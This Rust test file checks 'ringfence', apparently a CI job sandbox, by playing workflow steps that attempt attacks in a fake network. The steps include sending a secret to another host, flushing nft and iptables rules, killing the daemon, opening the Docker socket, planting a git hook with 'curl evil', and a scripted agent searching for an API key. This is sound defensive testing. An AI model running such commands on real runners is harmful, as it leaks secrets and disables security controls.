//! Job mode for real: a runner played by `tests/job/runner.sh` (a runner user with passwordless
//! sudo, the file commands, steps run one by one, the post step) inside the fake internet's
//! host-side namespace and a private mount namespace, with the job's processes in a cgroup the
//! test makes. `ringfence job start` fences the steps that follow it; `job stop` in the post
//! step ends the fence and writes the reports. Nothing touches the real machine's namespace.

mod support;

use std::path::{Path, PathBuf};
use std::process::Stdio;

use journal::{Event, Verdict};
use testnet::{FakeInternet, SERIAL, TestCgroup};

const SECRET: &str = "sk-ant-api03-jobmodeRealValue0123456789abcdefghijklmnopqrstuvwxyzABCDEFGH-AA";

struct Job {
    stdout: String,
    records: Vec<journal::Record>,
    out_dir: PathBuf,
    workspace: PathBuf,
    _work: tempfile::TempDir,
}

impl Job {
    fn step(&self, name: &str) -> Option<i32> {
        self.stdout
            .lines()
            .find_map(|l| l.strip_prefix(&format!("STEP {name} rc=")))
            .and_then(|rest| rest.split_whitespace().next()?.parse().ok())
    }

    fn output(&self, name: &str) -> String {
        let prefix = format!("OUT {name} ");
        self.stdout.lines().filter_map(|l| l.strip_prefix(&prefix)).collect::<Vec<_>>().join("\n")
    }

    fn events(&self) -> impl Iterator<Item = &Event> {
        self.records.iter().map(|r| &r.event)
    }

    /// The pid of the first exec of `program` with an argument containing `needle`.
    fn exec_of(&self, program: &str, needle: &str) -> Option<u32> {
        self.events().find_map(|e| match e {
            Event::ProcessExec(x)
                if x.argv.first().is_some_and(|a| a.rsplit('/').next() == Some(program))
                    && x.argv.iter().any(|a| a.contains(needle)) =>
            {
                Some(x.pid)
            }
            _ => None,
        })
    }
}

/// How the main and post steps start and stop ringfence.
#[derive(Clone, Copy, PartialEq)]
enum Via {
    /// `sudo ringfence job start|stop`, as a workflow's `run:` steps would.
    Cli,
    /// The repository's action (action.yml): its main.js and post.js under node, as the runner
    /// runs a JavaScript action, with `ringfence-path` pointing at this build.
    Action,
}

/// Plays one job: `steps` are the later steps (`name:command`).
fn play(net: &FakeInternet, mode: &str, via: Via, steps: &[&str]) -> Job {
    play_with(net, mode, via, steps, "allowed.test", "")
}

/// [`play`] with the secret's host and more policy after `egress.allow`'s base entries.
fn play_with(
    net: &FakeInternet,
    mode: &str,
    via: Via,
    steps: &[&str],
    secret_host: &str,
    allow: &str,
) -> Job {
    let work = support::scratch();
    let cgroup = TestCgroup::new(&format!("job-{mode}"));
    let policy = work.path().join("ringfence.yml");
    std::fs::write(
        &policy,
        format!(
            "version: 1\nmode: {mode}\negress:\n  allow:\n    - {{ host: allowed.test, ports: [443, 80] }}\n    - {{ host: a.wild.test, ports: [443] }}\n{allow}\
             dns:\n  upstream: [\"{}\"]\n",
            net.upstream()[0]
        ),
    )
    .unwrap();
    // The job gets a /tmp of its own (tests/job/runner.sh), as a runner machine has: the fake
    // internet's files in the test machine's /tmp are not the job's to see.
    let upstream_ca = work.path().join("upstream-ca.pem");
    std::fs::copy(net.ca(), &upstream_ca).unwrap();
    let steps_file = work.path().join("steps");
    std::fs::write(&steps_file, steps.join("\n") + "\n").unwrap();
    let out_dir = work.path().join("run");
    let main = format!(
        "ANTHROPIC_API_KEY=\"$SECRET_VALUE\" sudo -n --preserve-env=GITHUB_OUTPUT,GITHUB_ENV,GITHUB_STATE,GITHUB_WORKSPACE,RUNNER_TEMP,ANTHROPIC_API_KEY \
         \"$RF\" job start --policy {} --secret ANTHROPIC_API_KEY={secret_host} --disable-sudo --cgroup \"$CGROUP\" \
         --upstream-ca {} --out {}",
        policy.display(),
        upstream_ca.display(),
        out_dir.display()
    );
    let post =
        "sudo -n \"$RF\" job stop --token \"$STATE_ringfence_stop_token\" --summary \"$GITHUB_STEP_SUMMARY\"";
    let action = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../action");
    let (main, post) = match via {
        Via::Cli => (main, post.to_string()),
        Via::Action => (
            format!(
                "env 'INPUT_EGRESS-POLICY={mode}' 'INPUT_POLICY={}' 'INPUT_DISABLE-SUDO=true' \
                 'INPUT_SECRETS=ANTHROPIC_API_KEY={secret_host}' \"INPUT_RINGFENCE-PATH=$RF\" 'INPUT_UPSTREAM-CA={}' \
                 \"INPUT_CGROUP=$CGROUP\" 'INPUT_OUT={}' ANTHROPIC_API_KEY=\"$SECRET_VALUE\" node {}/main.js",
                policy.display(),
                upstream_ca.display(),
                out_dir.display(),
                action.display()
            ),
            format!("node {}/post.js", action.display()),
        ),
    };
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/job/runner.sh");
    let output = net
        .host_command("unshare")
        .args(["--mount", "--propagation", "private", "bash"])
        .arg(&script)
        .env("RF", support::binary())
        .env("WORK", work.path())
        .env("CGROUP", &cgroup.path)
        .env("STEPS", &steps_file)
        .env("MAIN", main)
        .env("POST", post)
        .env("SECRET_VALUE", SECRET)
        .env("INET_NS", net.internet_ns_path())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let records = match journal::read(&out_dir.join("events.jsonl")) {
        Ok(Ok(verified)) => verified.records,
        other => panic!(
            "journal did not verify: {other:?}\nstdout:\n{stdout}\nstderr:\n{}",
            String::from_utf8_lossy(&output.stderr)
        ),
    };
    Job { stdout, records, out_dir, workspace: work.path().join("workspace"), _work: work }
}

/// Curl with the CA the job's later steps were given (`SSL_CERT_FILE` through GITHUB_ENV).
const CURL: &str = "curl -sS --max-time 10 -o /dev/null -w '%{http_code}\\n'";

#[test]
fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
    if !testnet::privileged() || !testnet::have(&["sudo", "setpriv", "unshare", "node"]) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let net = FakeInternet::new();
    let node_get = "node -e \"require('https').get('https://denied.test/', r => console.log('status', r.statusCode)).on('error', e => { console.log('error', e.code); process.exit(3) })\"";
    let steps = [
        &format!("allowed:{CURL} --cacert \"$SSL_CERT_FILE\" https://allowed.test/") as &str,
        &format!("denied:{CURL} https://denied.test/"),
        &format!("by_ip:{CURL} http://198.51.100.11/"),
        &format!("nodeaction:{node_get}"),
        "dnsdirect:dig +time=2 +tries=1 @198.51.100.53 denied.test A | grep -E 'status:|^denied'",
        "nftflush:sudo -n nft flush ruleset",
        "iptables:sudo -n iptables -F",
        "kill:kill -TERM $(pgrep -f 'ringfence job start' | head -1) 2>&1; echo killed=$?",
        "earlystop:sudo -n \"$RF\" job stop --token guessed --summary /dev/null",
        "sentinel:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" 'https://allowed.test/headers?reversed=1'",
        "exfil:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" https://a.wild.test/ ; true",
        "engine:python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); print(s.recv(16))\"",
        "checkout:cd \"$GITHUB_WORKSPACE\" && mkdir -p .github/workflows .git/hooks && echo 'on: push' > .github/workflows/ci.yml && echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[core]' > .git/config && ln -s /usr/share .github/actions",
        "clone:git init -q /tmp/origin && cd /tmp/origin && echo hi > a.txt && git add a.txt && git -c user.email=ci@example.test -c user.name=ci commit -qm x && git clone -q /tmp/origin \"$GITHUB_WORKSPACE/app\"",
        "settle:sleep 3",
        "overwrite:cd \"$GITHUB_WORKSPACE\" && python3 -c \"open('app/a.txt', 'a').write('changed')\"",
        "mounts:grep -c ' /usr/share ' /proc/self/mountinfo; true",
        "tamperwf:cd \"$GITHUB_WORKSPACE\" && echo 'on: pull_request_target' >> .github/workflows/ci.yml",
        "tamperhook:cd \"$GITHUB_WORKSPACE\" && printf '#!/bin/sh\\ncurl evil' > .git/hooks/post-checkout",
        "renamegh:cd \"$GITHUB_WORKSPACE\" && mv .github .github-old",
        "build:cd \"$GITHUB_WORKSPACE\" && echo built > out.txt && git config --file .git/config user.name ci",
        "inbound:(timeout 6 python3 -c \"import socket; s = socket.socket(); s.bind(('0.0.0.0', 9999)); s.listen(1); c, _ = s.accept(); c.sendall(b'leak')\" > /dev/null 2>&1 &) ; sleep 0.5",
        "failing:exit 7",
    ];
    let job = play(&net, "block", Via::Cli, &steps);
    let out = |s| job.output(s);
    assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
    assert!(
        job.stdout.contains("OUT main ::add-mask::"),
        "the secret and sentinel are masked:\n{}",
        out("main")
    );
    assert_eq!(out("allowed").trim(), "200", "an allowed name works through the fence: {}", job.stdout);
    assert_ne!(out("denied").trim(), "200", "an unlisted name is refused");
    assert_ne!(out("by_ip").trim(), "200", "a direct IP is refused");
    assert_ne!(job.step("nodeaction"), Some(0), "node to an unlisted name fails: {}", out("nodeaction"));
    let dns = out("dnsdirect");
    assert!(
        dns.contains("status: NXDOMAIN") && !dns.contains("198.51.100.11"),
        "DNS to another resolver is answered by ringfence: {dns}"
    );
    assert_ne!(job.step("nftflush"), Some(0), "sudo is gone: {}", out("nftflush"));
    assert_ne!(job.step("iptables"), Some(0), "sudo is gone: {}", out("iptables"));
    assert!(!out("kill").contains("killed=0"), "the job user cannot signal the daemon: {}", out("kill"));
    assert_ne!(job.step("earlystop"), Some(0), "a stop without the token is refused: {}", out("earlystop"));
    // The sentinel reached the secret's own host as the real value (the server shows it reversed).
    let reversed: String = SECRET.chars().rev().collect();
    assert!(
        out("sentinel").contains(&reversed),
        "the proxy swapped the sentinel toward its host: {}",
        out("sentinel")
    );
    assert_ne!(job.step("engine"), Some(0), "the container engine is taken away: {}", out("engine"));
    assert!(out("engine").contains("Permission denied"), "{}", out("engine"));
    assert!(
        job.stdout.contains("ENGINE 660:4242"),
        "the engine's socket is given back at stop: {}",
        job.stdout
    );
    // Protected paths: the checkout writes them freely, then they are held for the rest of the job.
    assert_eq!(job.step("checkout"), Some(0), "{}", out("checkout"));
    assert_eq!(
        out("mounts").trim(),
        "0",
        "a protected path that is a link to outside is not mounted: {}",
        out("mounts")
    );
    let refused_link = job.events().any(|e| {
        matches!(e, Event::PolicyViolation(v) if v.rule == "job.hold" && v.what.contains(".github/actions"))
    });
    assert!(refused_link, "the link is named as a path that could not be held");
    assert_ne!(job.step("tamperwf"), Some(0), "a workflow is read-only once held");
    assert!(out("tamperwf").contains("Read-only file system"), "{}", out("tamperwf"));
    assert_ne!(job.step("tamperhook"), Some(0), "git hooks are read-only once held: {}", out("tamperhook"));
    assert_ne!(job.step("renamegh"), Some(0), ".github cannot be renamed aside: {}", out("renamegh"));
    assert_eq!(
        job.step("build"),
        Some(0),
        "the rest of the workspace, .git/config too, stays writable: {}",
        out("build")
    );
    let checkout_writes_flagged = job.events().any(
        |e| matches!(e, Event::FileWrite(w) if w.violation && w.path.ends_with(".github/workflows/ci.yml")),
    );
    assert!(!checkout_writes_flagged, "the checkout's own writes are not violations");
    assert!(
        job.stdout.contains("PRE echo ping"),
        "a connection open before the fence keeps flowing: {}",
        job.stdout
    );
    let inbound = job.stdout.lines().find_map(|l| l.strip_prefix("INBOUND ")).unwrap_or_default();
    assert!(inbound.starts_with("refused"), "a connection from outside into the job is refused: {inbound}");
    assert_eq!(job.step("clone"), Some(0), "{}", out("clone"));
    let flagged = job.events().any(|e| {
        matches!(e, Event::FileWrite(w) if w.path.ends_with("app/a.txt") && !w.violation
            && w.rule.as_deref().is_some_and(|r| r.starts_with("job.source_overwritten") && r.contains("python3")))
    });
    assert!(flagged, "a checked-out file changed by another program is flagged, not a violation");
    assert_eq!(job.step("failing"), Some(7));
    assert_eq!(
        job.step("post"),
        Some(0),
        "post after a failed step still stops and reports: {}",
        out("post")
    );
    assert!(!job.stdout.contains("LEFTOVER"), "the daemon is gone after stop");

    // The journal: attributed refusals, the tamper attempts, the sentinel exfiltration.
    let curl_denied =
        job.exec_of("curl", "https://denied.test/").expect("the denied curl's exec is recorded");
    let refused_denied = job.events().any(|e| match e {
        Event::DnsQuery(q) => {
            q.name.trim_end_matches('.') == "denied.test"
                && q.verdict == Verdict::Blocked
                && q.pid == Some(curl_denied)
        }
        _ => false,
    });
    assert!(refused_denied, "denied.test refused and attributed to curl (pid {curl_denied})");
    let node = job.exec_of("node", "denied.test").expect("node's exec");
    let node_refused = job
        .events()
        .any(|e| matches!(e, Event::DnsQuery(q) if q.pid == Some(node) && q.verdict == Verdict::Blocked));
    assert!(node_refused, "node's lookup refused and attributed to node (pid {node})");
    let by_ip = job.events().any(|e| matches!(e, Event::NetConnect(c) if c.ip == "198.51.100.11" && c.verdict == Verdict::Blocked && c.pid.is_some()));
    assert!(by_ip, "the direct-IP connection is refused and attributed");
    let tamper = job.events().any(|e| matches!(e, Event::PolicyViolation(v) if v.rule == "job.tamper"));
    assert!(tamper, "the early stop request is recorded");
    let sender = job.exec_of("curl", "https://a.wild.test/").expect("the exfiltrating curl's exec");
    let exfil = job.events().any(|e| matches!(e, Event::SecretExfil(x) if x.pid == Some(sender)));
    assert!(
        exfil,
        "the sentinel toward another allowed host is refused and attributed to curl (pid {sender})"
    );
    // The real value is nowhere in the job's files.
    let summary = std::fs::read_to_string(job.out_dir.join("report.md")).unwrap();
    assert!(!summary.contains(SECRET), "the report never holds the real value");
    assert!(
        !job.stdout.replace(&format!("::add-mask::{SECRET}"), "").contains(SECRET),
        "no step saw the real value"
    );
    let step_summary = job.stdout.lines().find_map(|l| l.strip_prefix("SUMMARY ")).unwrap();
    let appended = std::fs::read_to_string(step_summary.trim()).unwrap();
    assert!(appended.contains("ringfence"), "report.md appended to the post step's summary");
}

#[test]
fn audit_mode_records_every_step_and_lets_it_through() {
    if !testnet::privileged() || !testnet::have(&["sudo", "setpriv", "unshare"]) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let net = FakeInternet::new();
    let steps = [
        &format!("denied:{CURL} --cacert \"$SSL_CERT_FILE\" https://denied.test/") as &str,
        "engine:python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); print(s.recv(16))\"",
    ];
    let job = play(&net, "audit", Via::Cli, &steps);
    assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
    assert_eq!(job.output("denied").trim(), "200", "audit mode lets it through: {}", job.stdout);
    assert_eq!(job.step("post"), Some(0), "{}", job.output("post"));
    let curl = job.exec_of("curl", "https://denied.test/").expect("curl's exec is recorded with its argv");
    let flagged = job.events().any(|e| match e {
        Event::NetConnect(c) => {
            c.host.as_deref() == Some("denied.test") && c.violation && c.pid == Some(curl)
        }
        _ => false,
    });
    assert!(flagged, "the connection is flagged and attributed to curl (pid {curl})");
    assert!(job.out_dir.join("suggested-policy.yml").is_file(), "audit mode proposes a policy");
    assert!(
        job.output("engine").contains("engine"),
        "audit mode leaves the engine alone: {}",
        job.output("engine")
    );
    let engine =
        job.events().any(|e| matches!(e, Event::PolicyViolation(v) if v.rule == "job.container_engine"));
    assert!(engine, "a reachable container engine is journaled");
}

#[test]
fn the_action_starts_the_fence_and_its_post_step_reports_after_a_failed_step() {
    if !testnet::privileged() || !testnet::have(&["sudo", "setpriv", "unshare", "node"]) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let net = FakeInternet::new();
    let steps = [
        &format!("allowed:{CURL} https://allowed.test/") as &str,
        &format!("denied:{CURL} https://denied.test/"),
        "nftflush:sudo -n nft flush ruleset",
        "failing:exit 3",
    ];
    let job = play(&net, "block", Via::Action, &steps);
    assert_eq!(job.step("main"), Some(0), "the action's main failed:\n{}", job.stdout);
    assert_eq!(job.output("allowed").trim(), "200", "{}", job.stdout);
    assert_ne!(job.output("denied").trim(), "200");
    assert_ne!(job.step("nftflush"), Some(0), "disable-sudo took sudo away");
    assert_eq!(job.step("post"), Some(0), "post stops the fence after a failed step: {}", job.output("post"));
    assert!(job.out_dir.join("report.html").is_file(), "post copied the reports to the `out` input");
    let curl = job.exec_of("curl", "https://denied.test/").expect("curl's exec");
    let refused = job
        .events()
        .any(|e| matches!(e, Event::DnsQuery(q) if q.pid == Some(curl) && q.verdict == Verdict::Blocked));
    assert!(refused, "the denied lookup is refused and attributed to curl (pid {curl})");
}

/// The real Claude Code, started by a later step the way claude-code-action starts it (its key
/// from the ringfence step's output), against a scripted Messages API in the fake internet.
#[test]
fn the_real_claude_code_in_a_later_step_holds_only_the_sentinel() {
    use support::agents::{Agent, look_for_key, world};
    if !testnet::have(&["sudo", "setpriv", "unshare", "node"]) {
        return;
    }
    let agent = Agent {
        package: testnet::CLAUDE_CODE,
        api_host: "api.anthropic.com",
        api_ip: "198.51.100.20",
        key_var: "ANTHROPIC_API_KEY",
        args: &[],
        env: &[],
        policy: "",
        stdin: "",
    };
    let script = serde_json::json!({"turns": [{"bash": look_for_key("ANTHROPIC_API_KEY", "sk-ant-api03")}, {"text": "Done."}]});
    let Some(world) =
        world("the_real_claude_code_in_a_later_step_holds_only_the_sentinel", agent, SECRET.into(), script)
    else {
        return;
    };
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let claude = format!(
        "claude:cd \"$GITHUB_WORKSPACE\" && ANTHROPIC_API_KEY=\"$STEP_main_ANTHROPIC_API_KEY\" DISABLE_AUTOUPDATER=1 \
         DISABLE_TELEMETRY=1 CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 {} -p 'Do what the task needs.' \
         --allowedTools Bash --output-format json",
        world.bin.display()
    );
    let job = play_with(
        &world.net,
        "block",
        Via::Cli,
        &[&claude],
        "api.anthropic.com",
        "    - { host: api.anthropic.com, ports: [443] }\n",
    );
    assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
    let result: serde_json::Value = job
        .output("claude")
        .lines()
        .find_map(|l| serde_json::from_str(l).ok())
        .unwrap_or(serde_json::Value::Null);
    assert_eq!(result["result"], "Done.", "Claude Code finished its task: {}", job.stdout);
    let calls = world.model_calls();
    assert!(!calls.is_empty(), "the model API was called");
    for call in &calls {
        assert_eq!(call["headers"]["x-api-key"], SECRET, "the real key reached the API: {call}");
    }
    let held = std::fs::read_to_string(job.workspace.join("key.txt")).expect("the tool call wrote key.txt");
    assert!(
        held.starts_with("sk-ant-api03-") && held != SECRET,
        "Claude Code held a same-shape sentinel: {held}"
    );
    for file in ["env.txt", "environ.txt", "all-environ.txt", "grep.txt"] {
        let text = std::fs::read_to_string(job.workspace.join(file)).unwrap_or_default();
        let found: Vec<&str> = text.lines().filter(|l| l.contains(SECRET)).collect();
        assert!(found.is_empty(), "{file}: the real key is nowhere the job's steps can look: {found:?}");
    }
    assert_eq!(job.step("post"), Some(0), "{}", job.output("post"));
    let node = job.exec_of("node", "claude").or_else(|| job.exec_of("claude", "-p"));
    let api_calls =
        job.events().filter(|e| matches!(e, Event::HttpRequest(r) if r.host == "api.anthropic.com")).count();
    assert!(node.is_some() && api_calls > 0, "Claude Code's exec and its API calls are journaled");
}
